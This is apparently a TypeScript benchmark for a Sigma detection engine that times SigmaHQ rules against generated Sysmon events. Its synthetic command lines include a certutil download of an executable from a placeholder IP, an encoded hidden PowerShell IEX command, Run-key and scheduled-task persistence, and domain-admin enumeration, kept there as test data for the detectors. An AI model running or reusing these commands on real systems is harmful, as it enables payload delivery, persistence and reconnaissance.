/**
 * `npm run bench -- sigma [--events N] [--runs R] [--rules PATH] [--sweep]`: Sigma engine throughput, events per
 * CPU-second, on one core:
 *  (1) every SigmaHQ process_creation rule over N generated Sysmon process-creates (EventID 1 only —
 *      the events those rules are really evaluated on; other EventIDs are skipped by the index);
 *  (1b) the same without the engine's memo of recent field values (`memo: false`: every value
 *      scanned — what the prefilter costs when no value repeats);
 *  (2) the full Windows rule set over N generated events of a Sysmon mix (1, 3, 7, 11, 12, 13, 22).
 * Events are generated in batches and JSON-decoded (fresh strings, as a source yields them) outside the
 * timed section; the heap is collected between batches. Also reports rule-compile time, the engine's
 * live heap, peak RSS, hits, and the load average; and, alternating with the engine on the same
 * batches, a bare ceiling (one lower-casing + `indexOf` per field the rules' prefilter reads).
 * Rules: ../shared/sigmahq/rules unless --rules.
 */
import os from 'node:os';
import { existsSync } from 'node:fs';
import { resolve } from 'node:path';
import v8 from 'node:v8';
import vm from 'node:vm';
import { SigmaEngine } from '../server/src/sigma/engine.js';
import { EventView, type SigmaEvent } from '../server/src/sigma/event.js';
import { sigmaEventOf } from '../server/src/sigma/hits.js';
import { ingestPaths } from '../server/src/ingest/pipeline.js';
import type { SysmonEvent } from '../server/src/ingest/record.js';
import { mulberry32 } from '../server/src/demo/prng.js';
import { loadRules } from '../server/src/sigma/load.js';
import type { CompiledRule } from '../server/src/sigma/rule.js';

v8.setFlagsFromString('--expose-gc');
const gc = vm.runInNewContext('gc') as () => void;


const SYS32 = 'C:\\Windows\\System32\\';
/** [image, command-line shapes] — an enterprise workstation mix with a sprinkle of LOLBin use. */
const PROGRAMS: Array<[string, string[], number]> = [
  [`${SYS32}svchost.exe`, ['svchost.exe -k netsvcs -p -s Schedule', 'svchost.exe -k LocalService -p'], 20],
  ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', ['"chrome.exe" --type=renderer --lang=en-US --renderer-client-id=%n', '"chrome.exe" --type=gpu-process --field-trial-handle=%n'], 25],
  [`${SYS32}conhost.exe`, ['\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1'], 10],
  [`${SYS32}cmd.exe`, ['cmd.exe /c echo %n', 'C:\\Windows\\system32\\cmd.exe /c "dir C:\\Users\\u%n\\Documents"', 'cmd /c ping -n 1 10.0.%n.1'], 6],
  [`${SYS32}WindowsPowerShell\\v1.0\\powershell.exe`, ['powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\scripts\\inv%n.ps1', 'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIA%n', 'powershell.exe Get-Process'], 4],
  ['C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', ['"WINWORD.EXE" /n "C:\\Users\\u%n\\Downloads\\invoice.docx"'], 3],
  [`${SYS32}rundll32.exe`, ['rundll32.exe shell32.dll,Control_RunDLL', 'rundll32.exe C:\\Users\\u%n\\AppData\\Local\\Temp\\x.dll,DllMain'], 3],
  [`${SYS32}certutil.exe`, ['certutil -urlcache -split -f http://198.51.100.%n/a.exe a.exe', 'certutil -hashfile C:\\f%n.bin SHA256'], 0.3],
  [`${SYS32}wbem\\WMIC.exe`, ['wmic process call create "cmd /c whoami"', 'wmic os get caption'], 0.3],
  [`${SYS32}whoami.exe`, ['whoami /all', 'whoami'], 1],
  [`${SYS32}net.exe`, ['net user /domain', 'net group "Domain Admins" /domain', 'net use \\\\srv%n\\share'], 1],
  [`${SYS32}reg.exe`, ['reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x%n /d C:\\x.exe', 'reg query HKLM\\SYSTEM'], 1],
  [`${SYS32}schtasks.exe`, ['schtasks /create /tn t%n /tr C:\\x.exe /sc daily', 'schtasks /query'], 1],
  ['C:\\Users\\u1\\AppData\\Local\\Temp\\setup.exe', ['setup.exe /S /D=C:\\Program Files\\App%n'], 2],
  [`${SYS32}msiexec.exe`, ['msiexec /i C:\\Windows\\Temp\\p%n.msi /qn', 'msiexec.exe /V'], 2],
];
const TOTAL_W = PROGRAMS.reduce((a, p) => a + p[2], 0);
const HASHES = 'SHA1=6A4C3B8F1D2E5A7C9B0D1E2F3A4B5C6D7E8F9A0B,MD5=0123456789ABCDEF0123456789ABCDEF,SHA256=ABCDEF0123456789ABCDEF0123456789ABCDEF0123456789ABCDEF0123456789,IMPHASH=3D1E2F3A4B5C6D7E8F9A0B1C2D3E4F50';

function pickProgram(r: number): [string, string[], number] {
  let x = r * TOTAL_W;
  for (const p of PROGRAMS) { x -= p[2]; if (x <= 0) return p; }
  return PROGRAMS[0]!;
}

const base = (img: string): string => img.slice(img.lastIndexOf('\\') + 1);

function processCreate(rnd: () => number, n: number): SigmaEvent {
  const [image, cmds] = pickProgram(rnd());
  const [pimage, pcmds] = pickProgram(rnd());
  const fill = (s: string): string => s.replace('%n', String(n % 997));
  return {
    eventId: 1, channel: 'Microsoft-Windows-Sysmon/Operational', provider: 'Microsoft-Windows-Sysmon', computer: `ws-${n % 500}.corp.example`,
    fields: {
      RuleName: '-', UtcTime: '2026-03-02 10:00:00.000', ProcessGuid: `{a1b2c3d4-${(n % 65536).toString(16).padStart(4, '0')}-0000-0000-000000000000}`, ProcessId: String(1000 + (n % 60000)),
      Image: image, FileVersion: '10.0.19041.1', Description: base(image), Product: 'Microsoft® Windows® Operating System', Company: 'Microsoft Corporation',
      OriginalFileName: base(image).toUpperCase(), CommandLine: fill(cmds[Math.floor(rnd() * cmds.length)]!), CurrentDirectory: 'C:\\Windows\\system32\\',
      User: 'CORP\\user', LogonGuid: '{a1b2c3d4-0000-0000-0000-000000000001}', LogonId: '0x3e7', TerminalSessionId: '1', IntegrityLevel: 'Medium', Hashes: HASHES,
      ParentProcessGuid: '{a1b2c3d4-0000-0000-0000-000000000002}', ParentProcessId: '900', ParentImage: pimage, ParentCommandLine: fill(pcmds[0]!), ParentUser: 'CORP\\user',
    },
  };
}

/** Other Sysmon events: network, image load, file create, registry, DNS. */
function otherEvent(rnd: () => number, n: number): SigmaEvent {
  const [image] = pickProgram(rnd());
  const k = Math.floor(rnd() * 6);
  const common = { ProcessGuid: '{a1b2c3d4-0000-0000-0000-000000000003}', ProcessId: '1234', Image: image, User: 'CORP\\user', UtcTime: '2026-03-02 10:00:00.000' };
  const mk = (eventId: number, fields: Record<string, string>): SigmaEvent => ({ eventId, channel: 'Microsoft-Windows-Sysmon/Operational', provider: 'Microsoft-Windows-Sysmon', computer: 'ws-1', fields: { ...common, ...fields } });
  switch (k) {
    case 0: return mk(3, { Protocol: 'tcp', Initiated: 'true', SourceIp: '10.0.0.5', SourcePort: String(50000 + (n % 1000)), DestinationIp: `52.1.${n % 255}.7`, DestinationPort: '443', DestinationHostname: 'example.com' });
    case 1: return mk(7, { ImageLoaded: `${SYS32}${['ntdll.dll', 'kernel32.dll', 'amsi.dll', 'dbghelp.dll'][n % 4]}`, Signed: 'true', Signature: 'Microsoft Windows', Hashes: HASHES, OriginalFileName: 'x.dll' });
    case 2: return mk(11, { TargetFilename: `C:\\Users\\u${n % 50}\\AppData\\Local\\Temp\\f${n % 1000}.${['tmp', 'exe', 'ps1', 'dll'][n % 4]}`, CreationUtcTime: '2026-03-02 10:00:00.000' });
    case 3: return mk(13, { EventType: 'SetValue', TargetObject: `HKU\\S-1-5-21\\Software\\Microsoft\\Windows\\CurrentVersion\\${['Run', 'Explorer', 'Internet Settings'][n % 3]}\\v${n % 100}`, Details: 'C:\\x.exe' });
    case 4: return mk(12, { EventType: 'CreateKey', TargetObject: `HKLM\\System\\CurrentControlSet\\Services\\svc${n % 100}` });
    default: return mk(22, { QueryName: `host${n % 1000}.example.com`, QueryStatus: '0', QueryResults: '::ffff:1.2.3.4;' });
  }
}


export function* batches(total: number, mixed: boolean, size = 50_000): Generator<SigmaEvent[]> {
  const rnd = mulberry32(7);
  for (let made = 0; made < total;) {
    const out: SigmaEvent[] = [];
    for (; out.length < size && made < total; made++) out.push(!mixed || rnd() < 0.3 ? processCreate(rnd, made) : otherEvent(rnd, made));
    yield JSON.parse(JSON.stringify(out)) as SigmaEvent[];
  }
}

/** The fields the rules' prefilter clauses read (what the engine lower-cases and scans per event). */
const clauseFields = (rules: CompiledRule[]): string[] => [...new Set(rules.flatMap((r) => r.clauses.flatMap((c) => c.map((n) => n.field))))].filter((f) => f !== '');

/**
 * The bare ceiling: per event, one lower-casing and one `indexOf` of an absent literal per field the
 * rules' clauses read — any engine reading those fields case-insensitively pays at least this.
 */
function bare(batch: SigmaEvent[], fields: string[]): number {
  let n = 0;
  for (const e of batch) for (const f of fields) { const v = e.fields[f]; if (v !== undefined && v.toLowerCase().indexOf('\u0001zq') >= 0) n++; }
  return n;
}

const cpuOf = (f: () => void): number => { const c0 = process.cpuUsage(); f(); const c = process.cpuUsage(c0); return (c.user + c.system) / 1000; };

/** Engine and bare ceiling over the same batches, alternating (A/B) so both see the same machine load. */
function measure(rules: CompiledRule[], total: number, mixed: boolean, memo: boolean): { cpuMs: number; bareCpuMs: number; wallMs: number; hits: number; engineBytes: number; peakRss: number; rulesHit: number } {
  const before = (gc(), process.memoryUsage().heapUsed);
  const engine = new SigmaEngine(rules, { memo });
  const engineBytes = (gc(), process.memoryUsage().heapUsed) - before;
  const fields = clauseFields(rules);
  let cpuMs = 0; let bareCpuMs = 0; let wallMs = 0; let hits = 0; let peakRss = 0;
  const fired = new Set<string>();
  for (const batch of batches(total, mixed)) {
    gc();
    const t0 = performance.now();
    cpuMs += cpuOf(() => { for (const e of batch) { const h = engine.match(e); if (h.length) { hits += h.length; for (const x of h) fired.add(x.rule.id); } } });
    wallMs += performance.now() - t0;
    peakRss = Math.max(peakRss, process.memoryUsage().rss);
    gc();
    bareCpuMs += cpuOf(() => { if (bare(batch, fields) < 0) throw new Error('unreachable'); });
  }
  return { cpuMs, bareCpuMs, wallMs, hits, engineBytes, peakRss, rulesHit: fired.size };
}

const median = (xs: number[]): number => [...xs].sort((a, b) => a - b)[Math.floor(xs.length / 2)]!;
const arg = (argv: string[], name: string, def: string): string => { const i = argv.indexOf(`--${name}`); return i >= 0 ? argv[i + 1]! : def; };

/**
 * `--sweep [--datasets DIR]`: every rule alone (no prefilter: the worst case) over the real captures'
 * stored events of its EventIDs; reports ms per 10k events per rule (median of 3 passes), the slowest
 * rules, and any above 50 ms per 10k; then the whole engine over all those events, with and without
 * its value memo.
 */
async function sweep(set: ReturnType<typeof loadRules>, datasets: string): Promise<void> {
  const events: SysmonEvent[] = [];
  await ingestPaths([datasets], { write: async (b) => { events.push(...b); return { inserted: b.length, duplicates: 0 }; } });
  const views = events.map((e) => sigmaEventOf(e));
  const byId = new Map<number, SigmaEvent[]>();
  for (const v of views) { const l = byId.get(v.eventId); if (l) l.push(v); else byId.set(v.eventId, [v]); }
  const rows: Array<{ title: string; events: number; msPer10k: number }> = [];
  for (const r of set.rules) {
    if (!r.applies.sysmon) continue;
    const evs = r.applies.eventIds ? r.applies.eventIds.flatMap((id) => byId.get(id) ?? []) : views;
    if (evs.length === 0) continue;
    // One view, reset per evaluation (as the engine does): nothing cached from another evaluation.
    const view = new EventView(evs[0]!);
    for (const e of evs) r.evaluate(view.reset(e)); // warm-up (JIT, lazy regex compilation)
    // At least 10k evaluations per pass (the event list repeated), so small captures time reliably.
    const reps = Math.ceil(10_000 / evs.length);
    const passes = [0, 1, 2].map(() => {
      const c0 = process.cpuUsage();
      for (let k = 0; k < reps; k++) for (const e of evs) r.evaluate(view.reset(e));
      const c = process.cpuUsage(c0);
      return (c.user + c.system) / 1000;
    });
    rows.push({ title: r.title, events: evs.length, msPer10k: (median(passes) * 10_000) / (evs.length * reps) });
  }
  rows.sort((a, b) => b.msPer10k - a.msPer10k);
  // The whole engine (every rule, prefilter, memo on and off) over the real events: a fresh engine per
  // pass (no memo carried over), passes alternating, median of 3.
  const whole = (memo: boolean): number => {
    const engine = new SigmaEngine(set.rules, { memo });
    const c0 = process.cpuUsage();
    for (const v of views) engine.match(v);
    const c = process.cpuUsage(c0);
    return (c.user + c.system) / 1000;
  };
  whole(true); whole(false);
  const on: number[] = []; const off: number[] = [];
  for (let k = 0; k < 3; k++) { on.push(whole(true)); off.push(whole(false)); }
  const realPerCpuSec = (ms: number[]): number => Math.round(views.length / (median(ms) / 1000));
  const over = rows.filter((r) => r.msPer10k > 50);
  console.log(JSON.stringify({ bench: 'sigma-sweep', events: events.length, rulesTimed: rows.length, loadAvg1m: Number(os.loadavg()[0]!.toFixed(1)), maxMsPer10k: Number(rows[0]?.msPer10k.toFixed(2) ?? 0), medianMsPer10k: Number(median(rows.map((r) => r.msPer10k)).toFixed(3)), over50: over.map((r) => r.title), engineEventsPerCpuSec: realPerCpuSec(on), engineNoMemoEventsPerCpuSec: realPerCpuSec(off), slowest: rows.slice(0, 5).map((r) => ({ ...r, msPer10k: Number(r.msPer10k.toFixed(2)) })) }));
  console.error(`[sigma] sweep: ${events.length} stored events from ${datasets}; ${rows.length} rules timed alone; slowest ${rows[0]?.msPer10k.toFixed(2)} ms per 10k events (${rows[0]?.title}); median ${median(rows.map((r) => r.msPer10k)).toFixed(3)}; ${over.length} rules above 50 ms per 10k; whole engine over these events ${(realPerCpuSec(on) / 1000).toFixed(1)}k events/CPU-s (${(realPerCpuSec(off) / 1000).toFixed(1)}k without the value memo); load ${os.loadavg()[0]!.toFixed(1)}`);
}

export async function run(argv: string[]): Promise<void> {
  const total = Number(arg(argv, 'events', '1000000'));
  const runs = Number(arg(argv, 'runs', '3'));
  const path = resolve(arg(argv, 'rules', resolve(import.meta.dirname, '..', '..', 'shared', 'sigmahq', 'rules')));
  if (!existsSync(path)) { console.error(`[sigma] rules folder ${path} not found (pass --rules PATH)`); process.exitCode = 2; return; }
  const t0 = performance.now();
  const set = loadRules([path]);
  const loadMs = performance.now() - t0;
  const pc = set.rules.filter((r) => r.applies.sysmon && r.applies.eventIds?.length === 1 && r.applies.eventIds[0] === 1);
  if (argv.includes('--sweep')) { await sweep(set, resolve(arg(argv, 'datasets', resolve(import.meta.dirname, '..', '..', 'shared', 'datasets')))); return; }
  console.error(`[sigma] ${set.rules.length} rules compiled (${pc.length} process_creation), ${set.unevaluable.length} unevaluable, in ${Math.round(loadMs)} ms`);
  const cases = [
    ['process_creation rules, EventID 1 only', pc, false, true],
    ['process_creation rules, EventID 1 only, no value memo', pc, false, false],
    ['all Windows rules, Sysmon mix', set.rules, true, true],
  ] as const;
  for (const [label, rules, mixed, memo] of cases) {
    const rs = Array.from({ length: runs }, () => measure(rules as CompiledRule[], total, mixed, memo));
    const cpu = median(rs.map((r) => r.cpuMs));
    const line = {
      bench: 'sigma', case: label, rules: rules.length, events: total, runs, loadAvg1m: Number(os.loadavg()[0]!.toFixed(1)),
      medianEventsPerCpuSec: Math.round(total / (cpu / 1000)), medianUsPerEvent: Number(((cpu * 1000) / total).toFixed(2)),
      bareCeilingEventsPerCpuSec: Math.round(total / (median(rs.map((r) => r.bareCpuMs)) / 1000)),
      engineToBareRatio: Number((median(rs.map((r) => r.cpuMs / r.bareCpuMs))).toFixed(1)),
      medianWallMs: Math.round(median(rs.map((r) => r.wallMs))), hits: rs[0]!.hits, rulesHit: rs[0]!.rulesHit,
      engineHeapMB: Number((rs[0]!.engineBytes / 2 ** 20).toFixed(1)), peakRssMB: Math.round(Math.max(...rs.map((r) => r.peakRss)) / 2 ** 20), compileMs: Math.round(loadMs),
    };
    console.log(JSON.stringify(line));
    console.error(`[sigma] ${label}: ${rules.length} rules, ${(line.medianEventsPerCpuSec / 1000).toFixed(1)}k events/CPU-s (${line.medianUsPerEvent} µs/event, median of ${runs}); bare ceiling (lower-case + indexOf per clause field) ${(line.bareCeilingEventsPerCpuSec / 1000).toFixed(0)}k/CPU-s, engine ${line.engineToBareRatio}× its cost; ${line.hits} hits by ${line.rulesHit} rules, engine heap ${line.engineHeapMB} MB, peak RSS ${line.peakRssMB} MB, load ${line.loadAvg1m}`);
  }
}
